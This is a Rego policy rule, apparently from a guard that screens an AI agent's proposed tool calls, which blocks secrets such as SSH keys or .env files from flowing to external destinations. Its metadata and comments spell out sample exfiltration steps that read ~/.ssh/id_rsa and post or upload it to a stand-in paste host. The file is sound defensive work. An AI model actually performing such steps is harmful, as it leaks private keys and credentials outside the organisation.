# METADATA
# title: Sensitive data to an external sink
# description: A secret read in this session (~/.ssh, .env, cloud credentials,
#   or any step labelled reads_sensitive) reaches a call that sends data outside
#   the organisation. Internal destinations (data.config.internal_domains) pass.
# custom:
#   risk: privacy.exfiltration
#   when: label:external_sink & any_label:reads_sensitive | label:external_sink & any_args_match:sensitive_pattern
#   example: read_file("~/.ssh/id_rsa") then http_post("https://paste.example.net", body=<key>)
package preflight.rules.sensitive_exfiltration

import data.preflight.lib
import rego.v1

# A secret read earlier flows into the sink's arguments.
findings contains f if {
	some step in lib.proposed
	"external_sink" in step.labels
	not lib.all_internal(step)
	some source in sensitive_reads
	source.index < step.index
	lib.flows_into(source, step)
	f := {
		"step": step.step_id, "verdict": "block",
		"reason": sprintf("data read from a sensitive source by step %d (`%s`) would leave to an external destination", [source.index, source.tool]),
	}
}

# The sink itself reads a secret (`upload_file(path="~/.ssh/id_rsa", ...)`).
findings contains f if {
	some step in lib.proposed
	"external_sink" in step.labels
	not lib.all_internal(step)
	some v in lib.string_args(step)
	lib.sensitive_text(v)
	f := {
		"step": step.step_id, "verdict": "block",
		"reason": sprintf("sends a sensitive file (%s) to an external destination", [v]),
	}
}

# Steps that read a secret, computed once per input. Kept here, not in lib:
# regorus evaluates a whole module when any of its rules is referenced, so
# a costly rule in lib would be paid by every rule file.
sensitive_reads contains step if {
	some step in input.graph.steps
	"reads_sensitive" in step.labels
}

# One regex over the serialized arguments: per-step function calls are what
# costs in regorus (about 40 µs a step on a 20-step conversation), and each
# regex call builds a fresh matcher cache, so one call over every step's
# arguments gates the per-step search.
sensitive_reads contains step if {
	any_sensitive_args
	some step in input.graph.steps
	not "external_sink" in step.labels
	regex.match(lib.config.sensitive_pattern, json.marshal(step.args))
}

any_sensitive_args if regex.match(lib.config.sensitive_pattern, json.marshal([s.args | some s in input.graph.steps]))
